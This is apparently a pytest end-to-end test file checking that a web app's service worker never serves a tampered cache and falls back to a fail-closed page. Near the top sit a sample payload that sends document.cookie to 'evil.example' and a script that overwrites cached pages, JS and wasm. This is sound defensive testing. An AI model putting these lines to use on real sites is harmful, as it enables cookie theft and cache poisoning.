"""End to end: the service worker serves only what the build made (docs/security-sw.md).

A script of the page's origin (here: the test, from the page) replaces files in the
service worker's cache with its own, stored without a CSP, as a Learn program that
escaped to `js` once could. The next loads must get the untouched page with its CSP:
from the network when online, from the browser's HTTP cache's checked copy when offline,
and when neither has it, the plain fail-closed page; never the changed copy."""

from __future__ import annotations

import hashlib
import json
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest

import build
from tools.compress import decompressed
from tools.serve import CSP
from tools.site import service_worker_defines

from ..conftest import PYTHON_TIMEOUT, App, Watch, checked_path
from .conftest import Site
from .test_e2e_offline import saved_offline, settle

# A page that, if it ever ran, would leave a mark that outlives it and reach another
# origin (the Watch fails the test on any request that leaves 127.0.0.1).
POISON_PAGE = (
    "<!doctype html><title>poisoned</title><script>localStorage.setItem('poisoned', 'page');"
    "fetch('http://evil.example/steal?' + document.cookie)</script><p>pwned</p>"
)
POISON = """async ([page]) => {
  const name = (await caches.keys()).find((key) => key.startsWith("knight-py-"));
  const cache = await caches.open(name);
  const html = () => new Response(page, { headers: { "Content-Type": "text/html" } });
  const js = (text) => new Response(text, { headers: { "Content-Type": "text/javascript" } });
  await cache.put("./", html());
  await cache.put("index.html", html());
  await cache.put("evil.html", html());
  await cache.put("app.js", js("localStorage.setItem('poisoned', 'app.js');"));
  await cache.put("worker.mjs", js("localStorage; self.postMessage({ type: 'ready', poisoned: true });"));
  // The wasm too: random bytes in place of Pyodide's.
  const junk = new Uint8Array(4096);
  crypto.getRandomValues(junk);
  await cache.put("pyodide.asm.wasm", new Response(junk, { headers: { "Content-Type": "application/wasm" } }));
  return name;
}"""


@pytest.fixture
def sw_context(browser: Any, watch: Watch) -> Iterator[Any]:
    """A fresh profile with service workers allowed. Requests leaving 127.0.0.1 fail the
    test (Watch); console errors are not collected: the fail-closed answers are 503s,
    which Chromium logs as errors. The page's own errors are checked where it runs."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.on("request", watch.request)
    yield context
    context.close()


def poison(app: App) -> str:
    return str(settle(app, f"({POISON})([{POISON_PAGE!r}])"))


def cached_text(app: App, name: str) -> str:
    script = (
        "caches.keys().then((keys) => caches.open(keys.find((k) => k.startsWith('knight-py-'))))"
        f".then((cache) => cache.match({name!r})).then((r) => r ? r.text() : '')"
    )
    return str(settle(app, script))


def assert_untouched(app: App, response: Any) -> None:
    """The load gave the build's page with its CSP, from the service worker, and nothing
    of the changed copies ran: Python ready (from the snapshot), the link's tour found
    and validated, no mark left."""
    assert response.from_service_worker
    headers = response.all_headers()
    assert headers["content-security-policy"] == CSP
    assert headers["cross-origin-embedder-policy"] == "credentialless"
    if "start=" in app.page.url:
        app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
        checked_path(app)
    app.wait_python()
    assert app.state()["pythonStart"] == "snapshot"
    assert app.page.evaluate("() => crossOriginIsolated")
    assert app.page.evaluate("() => localStorage.getItem('poisoned')") is None
    assert "pwned" not in app.page.content()


def shoot(page: Any, shots: Path, name: str) -> None:
    """A full-page screenshot into the test's own temporary folder."""
    page.screenshot(path=str(shots / name), full_page=True)


def test_a_poisoned_cache_is_never_served_online_or_offline(
    site: Site, sw_context: Any
) -> None:
    base = site.start()
    app = App(sw_context.new_page(), base)
    errors: list[str] = []
    app.page.on("pageerror", lambda error: errors.append(str(error)))
    app.goto("?rows=5&cols=5&start=a1")
    app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
    saved_offline(app)
    # Online: every changed file is fetched again, and put back.
    poison(app)
    assert_untouched(app, app.page.reload())
    assert "<script>localStorage" not in cached_text(app, "./")
    assert "poisoned" not in cached_text(app, "app.js")
    # A name the build does not have is never answered from the cache.
    stray = app.page.goto(base + "evil.html")
    assert stray is not None and stray.status == 404 and "pwned" not in app.page.content()
    app.goto("?rows=5&cols=5&start=a1")
    app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
    # Offline: the browser's HTTP cache still holds the build's files from the first
    # visit (the wasm as its compressed copy): checked, they are served instead.
    poison(app)
    site.stop()
    assert_untouched(app, app.page.reload())
    assert errors == []


def test_offline_with_nothing_checkable_the_plain_failure_page_is_shown(
    site: Site, sw_context: Any, tmp_path: Path
) -> None:
    base = site.start()
    app = App(sw_context.new_page(), base)
    app.goto("?rows=5&cols=5&start=a1")
    saved_offline(app)
    poison(app)
    site.stop()
    # No copy left to check the page against: the HTTP cache emptied too.
    cdp = sw_context.new_cdp_session(app.page)
    cdp.send("Network.clearBrowserCache")
    response = app.page.reload()
    assert response is not None and response.status == 503 and response.from_service_worker
    assert "default-src 'none'" in response.all_headers()["content-security-policy"]
    text = app.page.inner_text("body")
    assert "cannot be reached" in text and "连不上网络" in text
    assert app.page.evaluate("() => localStorage.getItem('poisoned')") is None
    assert app.page.evaluate("() => document.scripts.length") == 0
    shoot(app.page, tmp_path, "fail-closed-1280.png")
    app.page.set_viewport_size({"width": 390, "height": 844})
    shoot(app.page, tmp_path, "fail-closed-390.png")
    # Back online, the page's own reload link brings the build's page back.
    site.start()
    with app.page.expect_navigation() as navigation:
        app.page.get_by_role("link", name="Reload").click()
    app.page.set_viewport_size({"width": 1280, "height": 900})
    assert_untouched(app, navigation.value)



def test_a_changed_snapshot_is_never_restored(site: Site, sw_context: Any) -> None:
    """The snapshot, one of the files checked as soon as the page is asked for: changed in
    the cache, it is replaced by the network's copy before the worker gets it."""
    app = App(sw_context.new_page(), site.start())
    app.goto("?rows=5&cols=5&start=a1")
    saved_offline(app)
    snapshot = json.loads((site.root / "build.json").read_text())["snapshot"]["file"]
    # The same length as the real one, a byte changed near its end: past any header check.
    change = f"""caches.keys().then((keys) => caches.open(keys.find((k) => k.startsWith('knight-py-'))))
      .then(async (cache) => {{
        const bytes = new Uint8Array(await (await cache.match({snapshot!r})).arrayBuffer());
        bytes[bytes.length - 100] ^= 1;
        await cache.put({snapshot!r}, new Response(bytes));
        return bytes.length;
      }})"""
    size = settle(app, change)
    assert size == (site.root / snapshot).stat().st_size
    app.page.reload()
    app.wait_python()
    assert app.state()["pythonStart"] == "snapshot"
    app.wait_until("window.knightTour.status === 'found'", PYTHON_TIMEOUT)
    checked_path(app)
    kept = settle(
        app,
        "caches.keys().then((keys) => caches.open(keys.find((k) => k.startsWith('knight-py-'))))"
        f".then((cache) => cache.match({snapshot!r})).then((r) => r.arrayBuffer())"
        ".then((b) => crypto.subtle.digest('SHA-256', b))"
        ".then((d) => [...new Uint8Array(d)].map((x) => x.toString(16).padStart(2, '0')).join(''))",
    )
    assert kept == hashlib.sha256((site.root / snapshot).read_bytes()).hexdigest()

def test_the_service_worker_is_stamped_with_what_the_server_sends(base_url: str) -> None:
    """Every file the service worker keeps: the hash stamped in its script is that of the
    bytes the server sends (decoded, for the copies it keeps decoded), and the CSP it
    would serve the file with as a page or worker is the one the server sends."""
    manifest = json.loads((build.DIST / "build.json").read_text())
    defines = service_worker_defines(build.DIST, manifest)
    files = cast(dict[str, str], defines["KNIGHT_FILES"])
    policy = cast(dict[str, Any], defines["KNIGHT_POLICY"])
    script = (build.DIST / build.SERVICE_WORKER).read_text()
    decoded: dict[str, str] = manifest["compressed"]
    copies = set(decoded.values())
    assert set(files) == {"./", "build.json", *decoded} | (set(manifest["files"]) - copies)
    for name, digest in files.items():
        assert f'"{digest}"' in script, f"{name}'s hash is not in the service worker"
        url = base_url + (decoded.get(name, name) if name != "./" else "")
        with urllib.request.urlopen(url) as response:
            body = response.read()
            csp = response.headers["Content-Security-Policy"]
        assert hashlib.sha256(decompressed(body) if name in decoded else body).hexdigest() == digest, name
        if name not in decoded:  # served by the server under its own name
            assert policy["byName"].get(name, policy["page"]) == csp, name
